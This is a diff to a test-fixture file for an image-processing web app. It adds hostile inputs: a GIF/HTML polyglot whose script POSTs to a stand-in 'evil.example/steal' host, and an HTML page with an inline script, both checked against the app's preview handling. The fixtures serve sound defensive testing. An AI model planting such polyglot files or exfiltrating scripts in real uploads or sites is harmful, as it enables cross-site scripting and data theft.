@@ -154,6 +154,18 @@ export const svgWithScript = Buffer.from(`<?xml version="1.0"?>
 </svg>
 `);
 
+/**
+ * A polyglot: a valid GIF whose bytes after the trailer are an HTML page with a script. Typed as
+ * text/html (as a browser types a file named .html), its raw bytes open in a tab as a web page.
+ */
+export const gifHtmlPolyglot = Buffer.concat([
+  animatedGif(24, 16),
+  Buffer.from(`<html><body><script>console.log('HEIRLOOM-PREVIEW-SCRIPT-RAN'); fetch('https://evil.example/steal', { method: 'POST', body: 'queue' });</script></body></html>`),
+]);
+
+/** A plain web page with a script. */
+export const htmlWithScript = Buffer.from(`<!doctype html><html><body><script>console.log('HEIRLOOM-PREVIEW-SCRIPT-RAN'); alert('html-script');</script></body></html>\n`);
+
 /** A few bytes of a HEIC file: an ISO-BMFF 'ftyp' box with brand heic, then a truncated 'meta'. */
 export const heicStub = Buffer.concat([
   Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypheic', 'latin1'), Buffer.from([0, 0, 0, 0]), Buffer.from('mif1heic', 'latin1'),
@@ -182,6 +194,8 @@ export async function hostileCorpus(): Promise<HostileInput[]> {
     { id: 'animated-gif', name: 'animated.gif', mimeType: 'image/gif', bytes: animatedGif(24, 16), recipe: 'fade', expect: { size: [24, 16] } },
     { id: 'apng', name: 'animated.png', mimeType: 'image/png', bytes: apng(red, blue), recipe: 'fade', expect: { size: [24, 16] } },
     { id: 'svg-script', name: 'drawing.svg', mimeType: 'image/svg+xml', bytes: svgWithScript, recipe: 'fade', expect: { message: /drawing.svg is an SVG drawing, not a photo.*Export it as PNG or JPEG/ } },
+    { id: 'gif-html-polyglot', name: 'holiday.html', mimeType: 'text/html', bytes: gifHtmlPolyglot, recipe: 'fade', expect: { size: [24, 16] } },
+    { id: 'html-script', name: 'page.html', mimeType: 'text/html', bytes: htmlWithScript, recipe: 'fade', expect: { message: /page.html is not an image: it contains text/ } },
     { id: 'heic', name: 'IMG_0001.HEIC', mimeType: 'image/heic', bytes: heicStub, recipe: 'fade', expect: { message: /IMG_0001.HEIC is a HEIC photo, which this browser can't open\. Export it as JPEG/ } },
     { id: '1x1', name: 'dot.png', mimeType: 'image/png', bytes: encodePng(gradient(1, 1)), recipe: 'upscale-fast-x2', expect: { size: [2, 2] } },
     { id: 'thin-10000x2', name: 'thin.png', mimeType: 'image/png', bytes: encodePng(gradient(10000, 2)), recipe: 'upscale-fast-x2', expect: { size: [20000, 4] } },
